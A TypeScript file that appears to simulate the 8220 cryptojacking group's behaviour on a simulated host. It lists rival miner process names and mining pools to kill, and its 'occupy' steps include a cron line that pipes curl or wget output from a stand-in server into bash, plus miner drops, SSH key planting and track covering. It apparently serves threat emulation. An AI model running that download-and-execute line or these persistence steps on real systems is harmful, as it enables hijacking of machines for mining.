import type { GangModel } from '../../gangs/gang.ts'
import { killByCpu, killByName, killByPool, killRest } from '../../gangs/steps/evict.ts'
import { sinkPools, wipeCrontabs } from '../../gangs/steps/lock-out.ts'
import { coverTracks, dropMiner, removeGuards, spread } from '../../gangs/steps/settle-in.ts'
import { XMRIG_AGENT } from '../../network/cryptonote.ts'
import { MINUTE_MS } from '../../schedule.ts'
import { drawnFingerprint, drawnPool, someOf, varied } from './draw.ts'

const RIVALS = [
  'kinsing',
  'kdevtmpfsi',
  'kthreaddk',
  'zzh',
  'sysrv',
  'bioset',
  'kswapd00',
  'xmrig',
  'linuxsys',
  '.libs',
  'xmrigMiner',
  'irqbalanc1',
  'networkservice',
  'watchbog',
]
const POOLS = [
  'monerohash.com',
  'xmrpool.eu',
  'minexmr',
  'supportxmr',
  'moneroocean',
  'nanopool',
  'hashvault',
  'c3pool',
  '194.38.20',
  ':3333',
]

/** After 8220: holes in Confluence and WebLogic, a scanner for SSH, its own proxies for a pool, and years of quarrel with the others. */
export const forkHeirs: GangModel = {
  name: 'fork-heirs',
  family: '8220',
  form({ random, places, skill }) {
    const binary = varied(random, random.pick(['dbused', 'pwnrig', 'bashirc', 'masscan64', 'cronda']))
    const path = `${random.pick(['/tmp/.lock', '/var/tmp', '/tmp', '/usr/sbin', '/dev/shm'])}/${binary}`
    const wallet = places.wallet()
    const ip = places.server()
    const script = `/${random.pick(['xms', 'jira', 'wpf', 'bypass', 'xmss'])}`
    const cronMs = random.pick([1, 5, 30]) * MINUTE_MS
    return {
      traits: {
        wallets: [wallet, places.wallet()],
        pool: drawnPool({ random, places, skill: skill === 'low' ? 'medium' : skill }, [8080, 3333, 80, 443]),
        login: (machine) => ({
          login: random.chance(0.5) ? wallet : `${wallet}.${machine.facts.name}`,
          pass: 'x',
        }),
        agent: random.pick([
          XMRIG_AGENT,
          'PwnRIG/6.18.0 (Linux x86_64) libuv/1.42.0 gcc/9.3.0',
          'XMRig/6.16.4 (Linux x86_64) libuv/1.42.0 gcc/9.3.0',
        ]),
        miner: {
          path,
          comm: binary.slice(0, 15),
          args: (login) =>
            skill === 'low' ? ['-o', `${ip}:8080`, '-u', login, '--background'] : ['-c', '/tmp/.config'],
          cpuShare: random.between(0.8, 0.98),
          knownAs: ['dbused', 'pwnrig', 'bashirc'],
        },
        sources: [places.source(), places.source(), places.source()],
        client: { ...SPIRIT },
        download: { ip, name: random.chance(0.3) ? places.name() : null, paths: [script, `/${binary}`] },
        control: random.chance(0.5)
          ? {
              ip: places.server(),
              name: places.name(),
              port: random.pick([6667, 8080, 1524]),
              everyMs: random.integer(5, 30) * MINUTE_MS,
            }
          : null,
        key: random.chance(0.5) ? { fingerprint: drawnFingerprint(random), comment: 'root@u17' } : null,
        waysIn: random.chance(0.6)
          ? ['web-exploit', 'ssh-password', 'redis', 'docker-api']
          : ['ssh-password', 'web-exploit', 'docker-api'],
        spreads: 0.7,
        sells: 0.05,
        returnsAfterMs: random.integer(45, 240) * MINUTE_MS,
      },
      *occupy(foothold) {
        const order = foothold.random
        if (order.chance(0.6)) yield* removeGuards(foothold)
        yield* killByName(foothold, someOf(order, RIVALS, 0.85))
        if (order.chance(0.7)) yield* killByPool(foothold, someOf(order, POOLS, 0.7))
        if (order.chance(0.5)) yield* killByCpu(foothold, order.integer(40, 70))
        if (order.chance(0.6)) yield* wipeCrontabs(foothold)
        if (order.chance(0.25))
          yield* sinkPools(
            foothold,
            someOf(
              order,
              [
                'pool.supportxmr.com',
                'gulf.moneroocean.stream',
                'xmr.2miners.com',
                'auto.c3pool.org',
                'pool.hashvault.pro',
              ],
              0.6,
            ),
          )
        yield* killRest(foothold)
        if (!(yield* dropMiner(foothold, `/${binary}`))) return
        const started = yield* foothold.startMiner()
        const line = `*/${cronMs / MINUTE_MS} * * * * (curl -fsSL http://${ip}${script}||wget -q -O- http://${ip}${script})|bash -sh`
        const place = foothold.isRoot
          ? order.pick(['/etc/cron.d/apache', '/etc/cron.d/root', '/var/spool/cron/crontabs/root'])
          : `/var/spool/cron/crontabs/${foothold.hands.user.name}`
        yield* foothold.addCron(place, line, cronMs)
        if (started !== null && order.chance(0.4)) yield* foothold.chattr('+ia', place)
        if (order.chance(0.5)) yield* foothold.addKey('append')
        yield* spread(foothold)
        if (order.chance(0.5)) yield* coverTracks(foothold)
      },
    }
  },
}

/** A scanner written in Go. */
const SPIRIT = {
  banner: 'SSH-2.0-Go',
  kex: 'curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384',
  hostKeys: 'ssh-ed25519,rsa-sha2-256,rsa-sha2-512,ecdsa-sha2-nistp256',
  ciphers: 'aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr',
  macs: 'hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256',
}
